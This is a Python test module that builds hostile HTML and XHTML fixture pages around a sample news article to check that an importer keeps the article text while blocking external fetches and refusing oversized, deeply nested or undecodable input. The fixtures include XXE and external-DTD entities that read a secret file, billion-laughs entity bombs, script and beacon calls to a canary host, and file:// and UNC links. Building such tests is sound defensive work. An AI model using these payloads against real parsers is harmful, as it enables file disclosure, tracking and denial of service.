"""Hostile HTML and XHTML pages: everything a page can name that a renderer would fetch
or read (trackers, style sheets, scripts, frames, srcset, CSS url() and @import, meta
refresh, file:// and UNC links, SVG and XML external references), deep nesting, bad and
lying encodings. Each page also holds a real article, which must come through."""

from __future__ import annotations

from pathlib import Path

from tests.reliability.hostile.cases import EITHER, IMPORTED, REFUSED, Case, Context

ARTICLE = (
    "<article><h1>Artillery shipments questioned</h1>"
    "<p>Paragraph one of the report: the United States says North Korea supplied "
    "artillery rounds to Russia over several months.</p>"
    "<p>Paragraph two of the report: both Russia and North Korea deny that any "
    "shipment took place, calling the claim a fabrication.</p>"
    "<p>Paragraph three of the report: satellite images published last week showed "
    "freight trains at the border crossing near Tumangang.</p>"
    "<p>Paragraph four of the report: analysts said the volume was hard to estimate "
    "from the images alone.</p></article>"
)
KEPT = ("Paragraph one of the report", "Paragraph four of the report")


def _page(head: str, body: str, before: str = "", after: str = "") -> str:
    return (
        f"{before}<html lang='en'><head><meta charset='utf-8'><title>Hostile page</title>"
        f"{head}</head><body>{body}{ARTICLE}{after}</body></html>"
    )


def _write(ctx: Context, name: str, text: str | bytes) -> Path:
    path = ctx.imports / name
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return path


def trackers(ctx: Context) -> Path:
    c = ctx.canary
    body = (
        f"<img src='{c}/img.gif' width=1 height=1>"
        f"<img srcset='{c}/a.png 1x, {c}/b.png 2x' src='data:,'>"
        f"<picture><source srcset='{c}/p.webp' type='image/webp'><img src='{c}/p.jpg'></picture>"
        f"<video poster='{c}/poster.jpg' src='{c}/v.mp4'><track src='{c}/t.vtt'></video>"
        f"<audio src='{c}/a.mp3'></audio><input type=image src='{c}/i.png'>"
        f"<a href='{c}/link' ping='{c}/ping'>a link</a>"
        f"<table background='{c}/bg.png'><tr><td background='{c}/td.png'>cell</td></tr></table>"
    )
    return _write(ctx, "trackers.html", _page(f"<link rel=icon href='{c}/favicon.ico'>", body))


def stylesheets(ctx: Context) -> Path:
    c = ctx.canary
    head = (
        f"<link rel=stylesheet href='{c}/s.css'><link rel=preload href='{c}/f.woff2' as=font>"
        f"<link rel=prefetch href='{c}/next.html'><link rel=dns-prefetch href='{c}/'>"
        f"<link rel=import href='{c}/imp.html'>"
        f"<style>@import url('{c}/import.css'); @import '{c}/import2.css';"
        f"@font-face {{ font-family: x; src: url({c}/font.ttf); }}"
        f"body {{ background: url('{c}/bg.png'); }} p::after {{ content: url({c}/after.png); }}"
        f"</style>"
    )
    body = f"<div style=\"background-image:url('{c}/inline.png')\">styled</div>"
    return _write(ctx, "stylesheets.html", _page(head, body))


def scripts(ctx: Context) -> Path:
    c = ctx.canary
    head = (
        f"<script src='{c}/s.js'></script><script type=module src='{c}/m.js'></script>"
        f"<script>fetch('{c}/fetch'); new Image().src='{c}/beacon'; "
        f"navigator.sendBeacon('{c}/send'); document.write('SCRIPT-WROTE-THIS');</script>"
    )
    body = (
        f"<noscript><img src='{c}/noscript.gif'></noscript>"
        f"<button onclick=\"location='{c}/click'\">b</button>"
        f"<img src=x onerror=\"fetch('{c}/onerror')\">"
        f"<a href=\"javascript:fetch('{c}/js')\">js link</a>"
        f"<svg><script>fetch('{c}/svg-script')</script></svg>"
    )
    return _write(ctx, "scripts.html", _page(head, body))


def frames(ctx: Context) -> Path:
    c = ctx.canary
    body = (
        f"<iframe src='{c}/frame.html'></iframe><iframe srcdoc=\"<img src='{c}/srcdoc.gif'>\">"
        f"</iframe><object data='{c}/obj.swf'></object><embed src='{c}/embed.swf'>"
        f"<frameset><frame src='{c}/frame2.html'></frameset><portal src='{c}/portal'></portal>"
        f"<form action='{c}/form'><input name=q></form>"
    )
    return _write(ctx, "frames.html", _page("", body))


def refresh(ctx: Context) -> Path:
    c = ctx.canary
    head = (
        f"<meta http-equiv=refresh content='0; url={c}/refresh'><base href='{c}/base/'>"
        f"<meta http-equiv=Link content='<{c}/linkheader.css>; rel=stylesheet'>"
        f"<meta property='og:image' content='{c}/og.png'>"
        f"<link rel=canonical href='{c}/canonical'>"
    )
    return _write(ctx, "meta_refresh.html", _page(head, "<img src='relative.png'>"))


def svg_refs(ctx: Context) -> Path:
    c, s = ctx.canary, ctx.secret_url
    body = (
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
        f"<image href='{c}/svg.png'/><image xlink:href='{s}'/><use href='{c}/sprite.svg#i'/>"
        f"<feImage href='{c}/fe.png'/><style>@import url({c}/svg.css);</style>"
        f"<foreignObject><img src='{c}/fo.png'></foreignObject></svg>"
        f"<math><mglyph src='{c}/mglyph.png'/></math>"
    )
    return _write(ctx, "svg_external.html", _page("", body))


def file_links(ctx: Context) -> Path:
    s, d = ctx.secret_url, ctx.outside.as_uri()
    head = f"<link rel=stylesheet href='{d}/secret.css'>"
    body = (
        f"<img src='{s}'><a href='{s}'>secret link</a><iframe src='{s}'></iframe>"
        f"<object data='{s}'></object><embed src='{d}/secret.css'>"
        f"<div style=\"background:url('{s}')\">x</div><style>@import url('{d}/secret.css');</style>"
        f"<img src='file://localhost{ctx.secret}'>"
    )
    return _write(ctx, "file_links.html", _page(head, body))


def relative_links(ctx: Context) -> Path:
    body = (
        "<img src='../outside/secret.txt'><link rel=stylesheet href='../outside/secret.css'>"
        "<iframe src='../outside/secret.txt'></iframe><a href='../outside/secret.txt'>rel</a>"
    )
    return _write(ctx, "relative_links.html", _page("", body))


def unc_links(ctx: Context) -> Path:
    body = (
        "<img src='\\\\127.0.0.1\\share\\x.png'><a href='\\\\127.0.0.1\\share\\doc'>unc</a>"
        "<link rel=stylesheet href='//127.0.0.1/share/s.css'>"
        "<img src='file://127.0.0.1/share/y.png'><iframe src='\\\\?\\UNC\\127.0.0.1\\c$'></iframe>"
    )
    return _write(ctx, "unc_links.html", _page("", body))


def _xhtml(doctype: str, body: str) -> str:
    return (
        f"<?xml version='1.0' encoding='utf-8'?>\n{doctype}\n"
        "<html xmlns='http://www.w3.org/1999/xhtml' xmlns:xi='http://www.w3.org/2001/XInclude'>"
        f"<head><title>XHTML page</title></head><body>{body}{ARTICLE}</body></html>"
    )


def xhtml_xxe(ctx: Context) -> Path:
    doctype = f"<!DOCTYPE html [<!ENTITY xxe SYSTEM '{ctx.secret_url}'>]>"
    return _write(ctx, "xxe.xhtml", _xhtml(doctype, "<p>Leak: &xxe;</p>"))


def xhtml_external_dtd(ctx: Context) -> Path:
    doctype = f"<!DOCTYPE html SYSTEM '{ctx.outside.as_uri()}/secret.dtd'>"
    return _write(ctx, "external_dtd.xhtml", _xhtml(doctype, "<p>Leak: &leak;</p>"))


def xhtml_parameter_entity(ctx: Context) -> Path:
    doctype = (
        f"<!DOCTYPE html [<!ENTITY % remote SYSTEM '{ctx.outside.as_uri()}/secret.dtd'> %remote;"
        f"<!ENTITY % net SYSTEM '{ctx.canary}/evil.dtd'> %net;]>"
    )
    return _write(ctx, "parameter_entity.xhtml", _xhtml(doctype, "<p>Leak: &leak;</p>"))


def xinclude(ctx: Context) -> Path:
    body = f"<xi:include href='{ctx.secret_url}' parse='text'/><xi:include href='{ctx.canary}/x'/>"
    return _write(ctx, "xinclude.xhtml", _xhtml("", body))


def _laughs(name: str) -> str:
    entities = "<!ENTITY lol 'lol'>" + "".join(
        f"<!ENTITY lol{i} '{f'&lol{i - 1};' * 10 if i > 1 else '&lol;' * 10}'>"
        for i in range(1, 10)
    )
    return f"<!DOCTYPE {name} [{entities}]>"


def xhtml_billion_laughs(ctx: Context) -> Path:
    return _write(ctx, "billion_laughs.xhtml", _xhtml(_laughs("html"), "<p>&lol9;</p>"))


def html_billion_laughs(ctx: Context) -> Path:
    return _write(ctx, "billion_laughs.html", _laughs("html") + _page("", "<p>&lol9;</p>"))


def nested_divs(ctx: Context) -> Path:
    return _write(ctx, "nested_divs.html", _page("", "<div>" * 100_000, after="</div>" * 100_000))


def nested_inline(ctx: Context) -> Path:
    return _write(ctx, "nested_inline.html", _page("", "<span><b>" * 50_000 + "deep"))


def many_attributes(ctx: Context, count: int, name: str) -> Path:
    """libxml2 and htmldate take time quadratic in the attributes of one element."""
    attrs = " ".join(f"data-a{i}='{i}'" for i in range(count))
    return _write(ctx, name, _page("", f"<div {attrs}>x</div>"))


def long_word(ctx: Context) -> Path:
    return _write(ctx, "long_word.html", _page("", f"<p>{'x' * 3_000_000}</p>"))


def undecodable(ctx: Context) -> Path:
    noise = bytes(range(0x80, 0x100)) * 200 + b"\x00\x01\x02\x03" * 100
    return _write(ctx, "undecodable.html", b"<html><body><p>" + noise + b"</p></body></html>")


def undecodable_text(ctx: Context) -> Path:
    return _write(ctx, "undecodable.txt", bytes((i * 37 + 11) % 256 for i in range(20_000)))


def mixed_encodings(ctx: Context) -> Path:
    parts = [
        _page("", "<p>UTF-8 part: Pyongyang \u2014 \u5e73\u58e4 \u2014 caf\u00e9.</p>").encode(),
        "<p>Latin-1 part: caf\u00e9 d\u00e9j\u00e0 vu.</p>".encode("latin-1"),
        "<p>Shift-JIS part: \u5e73\u58e4\u306e\u5831\u544a.</p>".encode("shift_jis"),
    ]
    return _write(ctx, "mixed_encodings.html", b"".join(parts))


def mixed_utf16(ctx: Context) -> Path:
    page = _page("", "<p>UTF-8 part.</p>").encode() + "<p>UTF-16 part.</p>".encode("utf-16-le")
    return _write(ctx, "mixed_utf16.html", page)


def lying_charset(ctx: Context) -> Path:
    page = _page(
        "",
        "<p>Said in Korean: \ud3c9\uc591, and in Russian: "
        "\u041c\u043e\u0441\u043a\u0432\u0430.</p>",
    )
    page = page.replace("<meta charset='utf-8'>", "<meta charset='shift_jis'>")
    return _write(ctx, "lying_charset.html", page)


def utf7_charset(ctx: Context) -> Path:
    c = ctx.canary
    page = _page("", f"<p>+ADw-img src+AD0-'{c}/utf7.gif'+AD4-</p>")
    return _write(
        ctx, "utf7.html", page.replace("<meta charset='utf-8'>", "<meta charset='utf-7'>")
    )


def utf16_bom(ctx: Context) -> Path:
    return _write(ctx, "utf16.html", b"\xff\xfe" + _page("", "").encode("utf-16-le"))


def sidecar_link(ctx: Context) -> Path:
    secret_json = ctx.outside / "secret.json"
    secret_json.write_text(f'{{"title": "{ctx.token}"}}', encoding="utf-8")
    text = ctx.imports / "sidecar_link.txt"
    text.write_text("A note with a sidecar\n\nThe sidecar is a link out of the folder.\n")
    (ctx.imports / "sidecar_link.json").symlink_to(secret_json)
    return text


def big_page(ctx: Context, name: str, megabytes: float) -> Path:
    path = ctx.imports / name
    with path.open("w", encoding="utf-8") as out:
        out.write("<html><head><title>A very long report</title></head><body><article>")
        out.write("<h1>A very long report</h1>")
        size, i = 0, 0
        while size < megabytes * 1024 * 1024:
            line = (
                f"<p>Paragraph {i}: the ministry said figure {i * 7} was revised after a "
                f"review of region {i % 97}, and officials declined to comment.</p>\n"
            )
            out.write(line)
            size += len(line)
            i += 1
        out.write("</article></body></html>")
    return path


def _page_cases() -> list[Case]:
    safe = dict(expect=IMPORTED, must_have=KEPT)
    return [
        Case("trackers", "article", build=trackers, **safe),
        Case("stylesheets", "article", build=stylesheets, **safe),
        Case("scripts", "article", build=scripts, must_not=("fetch(", "SCRIPT-WROTE"), **safe),
        Case("frames", "article", build=frames, **safe),
        Case("meta_refresh", "article", build=refresh, **safe),
        Case("svg_external", "article", build=svg_refs, **safe),
        Case("file_links", "article", build=file_links, **safe),
        Case("relative_links", "article", build=relative_links, **safe),
        Case("unc_links", "article", build=unc_links, **safe),
        Case("xhtml_xxe", "article", build=xhtml_xxe, **safe),
        Case("xhtml_external_dtd", "article", build=xhtml_external_dtd, **safe),
        Case("xhtml_parameter_entity", "article", build=xhtml_parameter_entity, **safe),
        Case("xinclude", "article", build=xinclude, **safe),
        Case(
            "xhtml_billion_laughs",
            "article",
            build=xhtml_billion_laughs,
            must_not=("lollol",),
            **safe,
        ),
        Case(
            "html_billion_laughs",
            "article",
            build=html_billion_laughs,
            must_not=("lollol",),
            **safe,
        ),
        Case("nested_divs_100k", "article", REFUSED, nested_divs, "nested more than 256"),
        Case("nested_inline_100k", "article", REFUSED, nested_inline, "nested more than 256"),
        Case(
            "many_attributes_10k",
            "article",
            build=lambda ctx: many_attributes(ctx, 10_000, "many_attributes.html"),
            **safe,
        ),
        Case(
            "quadratic_attributes_300k",
            "article",
            REFUSED,
            lambda ctx: many_attributes(ctx, 300_000, "quadratic_attributes.html"),
            "took longer than",
            huge=True,
        ),
        Case("long_word_3mb", "article", build=long_word, **safe),
        Case("undecodable_html", "article", REFUSED, undecodable, "binary|decode|no text"),
        Case("undecodable_txt", "article", REFUSED, undecodable_text, "binary|decode"),
        Case("mixed_encodings", "article", IMPORTED, mixed_encodings, must_have=KEPT),
        Case("mixed_with_utf16", "article", REFUSED, mixed_utf16, "binary"),
        Case("lying_charset", "article", build=lying_charset, **safe),
        Case("utf7_charset", "article", build=utf7_charset, **safe),
        Case("utf16_bom", "article", build=utf16_bom, **safe),
        Case("sidecar_symlink_out", "article", IMPORTED, sidecar_link, must_have=("sidecar",)),
        Case(
            "large_3mb",
            "article",
            IMPORTED,
            lambda ctx: big_page(ctx, "large_3mb.html", 3),
            must_have=("Paragraph 0:", "Paragraph 20000:"),
        ),
        Case(
            "huge_60mb",
            "article",
            REFUSED,
            lambda ctx: big_page(ctx, "huge_60mb.html", 60),
            "is too large",
            huge=True,
        ),
        Case(
            "huge_45mb",
            "article",
            EITHER,
            lambda ctx: big_page(ctx, "huge_45mb.html", 45),
            "took longer than|needs more than",
            huge=True,
        ),
    ]


PAGE_CASES = _page_cases()
